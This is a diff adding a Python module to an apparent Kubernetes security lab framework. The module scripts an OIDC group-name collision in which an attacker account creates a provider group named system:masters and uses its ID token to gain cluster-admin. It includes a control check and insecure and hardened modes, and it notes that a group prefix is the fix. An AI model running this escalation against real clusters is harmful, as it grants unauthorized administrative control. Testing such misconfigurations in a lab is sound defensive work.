@@ -1,0 +1,181 @@
+"""Become cluster-admin by a group of the OpenID provider with a name of the cluster.
+
+The apiserver takes a person's groups from their ID token. Without a prefix, a group of the provider
+and a group of the cluster with the same name are one. The attacker needs an ordinary account at the
+provider, and the right to name a group there, which many providers give everybody. They create the
+group ``system:masters``, log in, and show the apiserver the token. A prefix for groups stops it:
+the token then makes them a member of a group that nobody has given a right.
+"""
+
+from __future__ import annotations
+
+import json
+from typing import TYPE_CHECKING
+
+from labkit.cluster import Environment
+from labkit.errors import ProbeError
+from labkit.lab.provider import log_in, required_provider
+from labkit.lab.traces import Trace, leaving
+from labkit.model import Foothold, Model
+from labkit.model.decision import EVERYTHING, MASTERS
+from labkit.model.id_tokens import caller_by_id_token, id_token_authenticators
+from labkit.model.providers import provider_of
+from labkit.techniques._lib.api.access import (
+    ACCESS_REVIEW,
+    CHANNEL,
+    IDENTITY,
+    api_url,
+    apiserver_of,
+    everything_allowed,
+    everything_review,
+    identity,
+    may_all,
+)
+from labkit.techniques._lib.machines.admin import SECRETS_IN
+from labkit.techniques._lib.machines.reach import Answer, execution_place, request
+from labkit.techniques._lib.machines.waiting import wait_for
+from labkit.techniques._lib.technique import (
+    ADMIN,
+    COPIED_CREDENTIAL,
+    Prediction,
+    Technique,
+    all_of,
+    holds,
+)
+from labkit.techniques._lib.verdict import Setting, Verdict
+
+if TYPE_CHECKING:
+    from labkit.lab import Lab
+
+__all__ = ["TECHNIQUE"]
+
+#: The account of the attacker, and that of a person whom nobody attacks.
+ATTACKER, PERSON = "mallory", "alice"
+GROUP = MASTERS
+#: Where the lab's own people have the provider's authority.
+AUTHORITY = "/etc/kubernetes/pki/oidc-ca.crt"
+#: Seconds until an apiserver that has just started knows the provider's keys: it asks every
+#: ten seconds (pkg/authenticator/token/oidc/oidc.go, New).
+PATIENCE = 30.0
+REVIEW = {"apiVersion": "authentication.k8s.io/v1", "kind": "SelfSubjectReview"}
+
+
+def predict(model: Model, foothold: Foothold) -> Prediction:
+    """Predict whether an account may make the group, and as whom its token is known."""
+    env = model.environment
+    apiserver, provider = apiserver_of(env), provider_of(env)
+    if provider is None or provider.client is None:
+        return Prediction(False, (f"no OpenID provider: {apiserver.source}",))
+    claims = {"aud": [provider.client.name], "sub": ATTACKER, "groups": [GROUP]}
+    caller = caller_by_id_token(env, apiserver, provider.issuer.value, claims)
+    if MASTERS not in caller.groups:
+        known = caller.claim.value != "unknown"
+        return Prediction(False if known else None, (str(caller.claim),))
+    return all_of(
+        holds(provider.groups_by_accounts, "allow-all"), may_all(model, caller, [EVERYTHING])
+    )
+
+
+def execute(lab: Lab, foothold: Foothold) -> Verdict:
+    """Create the group, log in, and ask the apiserver as whom it knows the token."""
+    control = _person_is_known(lab)
+    node, _, _ = execution_place(lab, foothold)
+    made = f"{ATTACKER} makes a group {GROUP} at {required_provider(lab).issuer.value}"
+    with leaving(lab, Trace("provider group", f"{GROUP} {ATTACKER}", node)):
+        said = log_in(lab, node, ATTACKER, group=GROUP)
+        if "error" in said:
+            raise ProbeError(f"{made}: {said['error']}")
+        if "refused" in said:
+            return _verdict(lab, foothold, False, "the provider refuses", made, control=control)
+        answer = _who(lab, foothold, said["id_token"])
+        if answer.refusal:
+            if answer.refusal not in ("HTTP 401", "HTTP 403"):
+                raise ProbeError(f"{TECHNIQUE.name}: {answer.refusal} is no known refusal")
+            return _verdict(lab, foothold, False, answer.refusal, made, control=control)
+        user, groups = identity(answer)
+        mine = next((it for it in groups if it.endswith(GROUP)), "")
+        if not mine:
+            raise ProbeError(f"the apiserver knows {user} by no group of the token")
+        known = f"the apiserver knows the token as {user}, in {mine}"
+        if mine != GROUP:
+            secrets = request(
+                lab, api_url(lab, SECRETS_IN), foothold=foothold, token=said["id_token"]
+            )
+            known += f"; secrets: {secrets.refusal or f'HTTP {secrets.status}'}"
+            return _verdict(lab, foothold, False, f"known as {mine}", made, known, control=control)
+        url = api_url(lab, ACCESS_REVIEW)
+        body, token = everything_review(), said["id_token"]
+        answer = request(lab, url, foothold=foothold, body=body, token=token)
+        proof = everything_allowed(answer)
+        return _verdict(lab, foothold, True, f"HTTP {answer.status}", made, known, proof)
+
+
+def _verdict(
+    lab: Lab, foothold: Foothold, succeeded: bool, reason: str, *evidence: str, control: str = ""
+) -> Verdict:
+    return Verdict(TECHNIQUE.name, lab.mode, foothold, succeeded, reason, evidence, control)
+
+
+def _who(lab: Lab, foothold: Foothold, token: str) -> Answer:
+    body = json.dumps(REVIEW).encode()
+    return request(lab, api_url(lab, IDENTITY), foothold=foothold, body=body, token=token)
+
+
+def _person_is_known(lab: Lab) -> str:
+    """Show that a person of the provider logs in and is known to the apiserver: the control.
+
+    Raises
+    ------
+    ProbeError
+        The provider or the apiserver refuses them.
+    """
+    master = next(node.name for node in lab.environment.nodes if node.role == "master")
+
+    def logged_in() -> dict[str, str]:
+        said = log_in(lab, master, PERSON, authority=AUTHORITY)
+        return {} if "error" in said else said
+
+    # a provider that was restarted takes some seconds until it listens
+    said = wait_for(lab, logged_in, PATIENCE, f"{PERSON} cannot log in: no answer")
+    if "refused" in said:
+        raise ProbeError(f"{PERSON} cannot log in: {said['refused']}")
+
+    def known() -> str:
+        answer = _who(lab, COPIED_CREDENTIAL, said["id_token"])
+        return "" if answer.refusal == "HTTP 401" else identity(answer)[0]
+
+    user = wait_for(lab, known, PATIENCE, f"the apiserver does not know {PERSON}'s token")
+    return f"{PERSON} logs in with TLS verified, and the apiserver knows {user}"
+
+
+def _settings(env: Environment) -> list[Setting]:
+    found: list[Setting] = []
+    for it in id_token_authenticators(env, apiserver_of(env)) or ():
+        if it.groups is not None:
+            prefix = it.groups.prefix or "none"
+            found.append(("prefix of groups", prefix, str(it.groups.source)))
+    return found
+
+
+TECHNIQUE = Technique(
+    name="oidc-group-collision",
+    title="Name a group of the OpenID provider system:masters",
+    footholds=(COPIED_CREDENTIAL,),
+    grants=(ADMIN,),
+    about=CHANNEL,
+    properties=("authorization",),
+    attack=("T1098", "T1550.001"),
+    stride=("spoofing", "elevation of privilege"),
+    cwe=("CWE-290", "CWE-269"),
+    sources=(
+        "https://kubernetes.io/docs/reference/access-authn-authz/authentication/"
+        "#openid-connect-tokens",
+        "https://canaille.readthedocs.io/en/latest/references/configuration.html",
+    ),
+    predict=predict,
+    execute=execute,
+    settings=_settings,
+    leaves=("provider group",),
+    machines=("idp",),
+    modes=("oidc-insecure", "oidc-hardened"),
+)
